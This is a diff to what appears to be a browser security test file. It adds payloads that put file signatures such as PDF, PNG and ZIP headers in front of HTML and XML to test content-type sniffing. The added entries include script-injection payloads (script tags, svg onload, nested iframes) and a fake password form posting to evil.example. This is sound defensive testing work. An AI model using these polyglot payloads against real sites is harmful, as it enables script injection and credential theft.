@@ -657,6 +657,90 @@ const encodings: readonly Payload[] = [
   { kind: 'charset', type: 'image/svg+xml', text: svg('<script>RUN</script>'), encode: utf16(true, true) },
 ];
 
+/** HTML behind what other files begin with, and XML with their marks where they have them: read as the files were. */
+const signatures = [
+  ...[
+    '%PDF-',
+    '%PDF-1.7\n',
+    '%!PS-Adobe-',
+    '{\\rtf1',
+    'WEBVTT',
+    '#!/bin/sh ',
+    '#EXTM3U',
+    '@echo off',
+    '#VRML',
+  ],
+  ...[
+    'GIF89a',
+    '\x89PNG\r\n\x1a\n',
+    '\xff\xd8\xff',
+    'BM',
+    '\0\0\x01\0',
+    'RIFF    WEBPVP',
+    '8BPS\0\x01',
+    '\xff\n',
+  ],
+  ...[
+    'PK\x03\x04',
+    '\x1f\x8b\x08',
+    'x\x9c',
+    'BZh',
+    'Rar!\x1a\x07\0',
+    '\xfd7zXZ\0',
+    '(\xb5/\xfd',
+    '!<arch>\n',
+  ],
+  ...['wOFF', 'wOF2', 'OTTO', 'ttcf', '\0\x01\0\0', 'true\0', `${'x'.repeat(34)}LP`],
+  ...[
+    'ID3',
+    'OggS\0',
+    'fLaC',
+    'MThd\0\0\0\x06',
+    '\0\0\0\x10ftypisom',
+    'xxxxftypavif',
+    'xxxxftypmp42',
+    '\x1aE\xdf\xa3',
+  ],
+  ...['MZ', '\x7fELF', '\0asm', '\xca\xfe\xba\xbe', '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', 'SQLite format 3\0'],
+  ...[
+    'FWS',
+    'dex\n0',
+    '[InternetShortcut]',
+    `${'x'.repeat(257)}ustar\0`,
+    'icns',
+    'II*\0',
+    'MSCF\0\0\0\0',
+    'L\0\0\0',
+  ],
+];
+const inSignature: readonly Payload[] = [
+  ...signatures.flatMap((front): Payload[] =>
+    canaries
+      .slice(0, 2)
+      .map((text) => ({ kind: 'signatures', type: 'text/html', text: `${front} ${text}`, encode: latin })),
+  ),
+  inHtml(
+    'signatures',
+    '%PDF-1.4\n<form action=https://evil.example/><input type=password></form><svg onload=RUN>',
+  ),
+  inHtml('signatures', `%PDF-<iframe src="${nested('text/html', '<script>RUN</script>')}"></iframe>`),
+  inHtml('signatures', `<iframe src="${nested('text/html', '%PDF-<script>RUN</script>')}"></iframe>`),
+  inHtml('signatures', `<object data="${nested('text/html', '%PDF-<script>RUN</script>')}"></object>`),
+  ...['isom', 'mp42', 'avif', 'heic'].flatMap((brand): Payload[] =>
+    xmlTypes.slice(0, 4).map((type) => ({
+      kind: 'signatures',
+      type,
+      text: `<!--ftyp${brand}--><r>${scriptOf(xhtmlNs)}</r>`,
+    })),
+  ),
+  {
+    kind: 'signatures',
+    type: 'text/xml;charset=utf-16le',
+    text: `<!--${'x'.repeat(13)}\u504c--><r>${scriptOf(xhtmlNs)}</r>`,
+    encode: utf16(false, false),
+  },
+];
+
 const typesOfHtml = ['TEXT/HTML', 'text/html;charset=x', ' text/html ;a=b', 'text/html;charset="utf-8"'];
 const otherTypes = [
   ...['application/x-unknown-content-type', 'application/unknown', 'unknown/unknown', '*/*'],
@@ -710,6 +794,7 @@ export const active: readonly Payload[] = [
     ['text/xml', 'application/xml', 'application/xhtml+xml'].map((type) => ({ kind: 'XSLT', type, text })),
   ),
   ...encodings,
+  ...inSignature,
   ...typesOfHtml.map((type) => ({ kind: 'types', type, text: '<script>RUN</script>' })),
   ...otherTypes.flatMap((type) => [
     { kind: 'types', type, text: '<script>RUN</script>' },
